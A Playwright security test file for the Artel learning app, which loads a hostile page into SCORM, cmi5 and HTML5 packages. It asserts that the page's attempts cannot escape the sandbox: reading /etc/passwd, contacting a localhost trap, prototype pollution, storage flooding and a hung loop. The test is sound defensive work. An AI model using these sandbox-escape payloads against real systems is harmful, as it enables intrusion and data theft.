/** [T27] A package that tries everything: the trap hears nothing, Node and other origins stay out of reach, the shell goes on working. */
import { createServer } from 'node:net'
import { createSocket } from 'node:dgram'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { scormManifest, writeScormZip } from '#tests/support/scorm-zip.ts'
import { startServerProcess } from '#tests/support/sync-server.ts'
import { launchArtel } from './support/launch-artel.ts'
import { inPackagePage, packageAddress } from './support/package-view.ts'
import { createPerson } from './support/person.ts'

/** Counts connections over TCP and bytes over UDP. */
async function openTrap() {
  let heard = 0
  const tcp = createServer((socket) => {
    heard += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve))
  const { port } = tcp.address() as AddressInfo
  const udp = createSocket('udp4', (bytes) => {
    heard += bytes.length
  })
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve))
  return {
    port,
    heard: () => heard,
    close: () => {
      tcp.close()
      udp.close()
    },
  }
}

const hostilePage = (
  port: number,
): string => `<!doctype html><title>Hostile</title><link rel="dns-prefetch" href="http://127.0.0.1:${port}"><link rel="preconnect" href="http://127.0.0.1:${port}">
<style>@import url("http://127.0.0.1:${port}/style.css"); body { background: url("http://127.0.0.1:${port}/ground.png") }</style>
<img src="http://127.0.0.1:${port}/a.png"><iframe src="http://127.0.0.1:${port}/frame"></iframe><script src="http://127.0.0.1:${port}/s.js"></script>
<form id="f" action="http://127.0.0.1:${port}/form" method="post"></form>
<script>
  window.found = parent.found = {}
  const trap = 'http://127.0.0.1:${port}/'
  const attempt = (name, work) => { try { const r = work(); found[name] = r === undefined || r === null ? 'nothing' : String(r).slice(0, 60) } catch (e) { found[name] = 'refused' } }
  attempt('require', () => typeof require)
  attempt('process', () => typeof process)
  attempt('artel', () => typeof window.artel + typeof top.artel)
  attempt('open', () => window.open(trap))
  attempt('top', () => { top.location = trap })
  attempt('beacon', () => navigator.sendBeacon(trap, 'x'))
  attempt('file', () => { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); return x.responseText })
  attempt('app', () => { const x = new XMLHttpRequest(); x.open('GET', 'app://artel/index.html', false); x.send(); return x.responseText })
  attempt('form', () => document.getElementById('f').submit())
  try { new WebSocket(trap.replace('http', 'ws')) } catch {}
  try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch {}
  fetch(trap).then(() => { found.fetch = 'reached' }, () => { found.fetch = 'refused' })
  navigator.mediaDevices?.getUserMedia?.({ video: true }).then(() => { found.camera = 'given' }, () => { found.camera = 'refused' })
  const proto = JSON.parse('{"kind":"commit","n":1,"cmi":"{}","__proto__":{"polluted":true}}')
  parent.postMessage(proto, '*')
  for (const kind of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload']) {
    const link = document.createElement('link'); link.rel = kind; link.href = trap + kind; if (kind === 'preload') link.as = 'image'; document.head.append(link)
  }
  try { new EventSource(trap) } catch {}
  try { new WebTransport(trap.replace('http', 'https')) } catch {}
  try { new Worker(trap + 'w.js') } catch {}
  attempt('disk', () => { let text = 'x'.repeat(1_000_000); for (let i = 0; i < 100; i += 1) localStorage.setItem('k' + i, text) })
  attempt('store', () => { const x = new XMLHttpRequest(); x.open('PUT', '/.store/xapi/activities/state?stateId=a', false); x.send('x'.repeat(10_000_000)); return x.status })
  for (const api of [parent.API, parent.API_1484_11]) attempt(api === parent.API ? 'scorm12' : 'scorm2004', () => {
    if (api === undefined) return 'none'
    const [begin, set, keep] = api === parent.API ? ['LMSInitialize', 'LMSSetValue', 'LMSCommit'] : ['Initialize', 'SetValue', 'Commit']
    try { api[set](); api[set]({}, []); api[set]('__proto__.polluted', 'yes'); api[set]('cmi.interactions.-1.id', 'x'); api[keep]('nonsense') } catch {}
    api[begin]('')
    // What fits in one value is cut by the standard; many of them are cut by us.
    api[set]('cmi.suspend_data', 'x'.repeat(50_000_000)); for (let i = 0; i < 1200; i += 1) { api[set]('cmi.interactions.' + i + '.id', 'i' + i); api[set]('cmi.interactions.' + i + '.type', 'fill-in'); api[set]('cmi.interactions.' + i + (api === parent.API ? '.student_response' : '.learner_response'), 'x'.repeat(250)) }
    return api[keep]('')
  })
  window.addEventListener('message', ({ data }) => { if (data === 'turn') for (;;); if (data === 'shout') for (let i = 0; i < 30; i += 1) setTimeout(() => alert('x'), 0) })
</script>`

/** The same page in every kind of package. */
const kinds = {
  'SCORM 1.2': { 'imsmanifest.xml': scormManifest },
  'SCORM 2004': { 'imsmanifest.xml': scormManifest.replace('>1.2<', '>2004 4th Edition<') },
  cmi5: {
    'cmi5.xml':
      '<courseStructure><course id="urn:c"><title><langstring lang="en">Hostile</langstring></title></course><au id="urn:au"><title><langstring lang="en">Hostile</langstring></title><url>start.html</url></au></courseStructure>',
  },
  HTML5: {},
} as const satisfies Readonly<Record<string, Readonly<Record<string, string>>>>

for (const [kind, files] of Object.entries(kinds)) {
  test(`[T27] a hostile ${kind} package reaches neither the network nor the machine nor the shell @packaged`, async () => {
    const trap = await openTrap()
    const folder = await mkdtemp(join(tmpdir(), 'artel-hostile-'))
    const zip = join(folder, 'hostile.zip')
    await writeScormZip(zip, { ...files, 'start.html': hostilePage(trap.port) })
    const server = await startServerProcess(join(folder, 'server'))
    const person = await createPerson(await launchArtel({ target: test.info().project.name }), 'en')
    await person.join(server.invitation ?? '', 'Irina', 'correct horse battery')
    await person.go('/learning')
    await person.drop(zip)
    await person.page.getByRole('link', { name: person.say('learning:report.next') }).click()
    await person.button('learning:editor.publish').click()
    await person.button('learning:start').click()
    await expect.poll(() => packageAddress(person.app), { timeout: 20_000 }).toMatch(/^package:/)

    const found = (): Promise<unknown> => inPackagePage(person.app, 'window.found')
    await expect.poll(found, { timeout: 40_000 }).toMatchObject({ fetch: 'refused' })
    await person.page.waitForTimeout(2_000)
    expect(await found()).toMatchObject({
      require: 'undefined',
      process: 'undefined',
      artel: 'undefinedundefined',
      open: 'nothing',
      file: 'refused',
      app: 'refused',
      store: '413',
    })
    if (kind.startsWith('SCORM'))
      await expect(person.page.getByText(person.say('learning:player.trouble.too-much'))).toBeVisible()
    expect(await found()).not.toMatchObject({ camera: 'given' })
    expect(await packageAddress(person.app)).toMatch(/^package:/)
    expect(trap.heard()).toBe(0)
    expect(await person.page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()

    // It turns in a circle: the shell goes on, and leaving the course ends it.
    await inPackagePage(person.app, "document.querySelector('#item').contentWindow.postMessage('turn', '*')")
    const before = Date.now()
    await person.page.evaluate(() => document.body.offsetHeight)
    expect(Date.now() - before).toBeLessThan(1_000)
    await person.go('/')
    await expect(person.page.getByRole('heading', { level: 1 })).toContainText('Irina')
    await expect.poll(() => packageAddress(person.app)).toBeUndefined()

    await person.stop()
    await server.kill('SIGTERM')
    trap.close()
    await rm(folder, { recursive: true, force: true })
  })
}
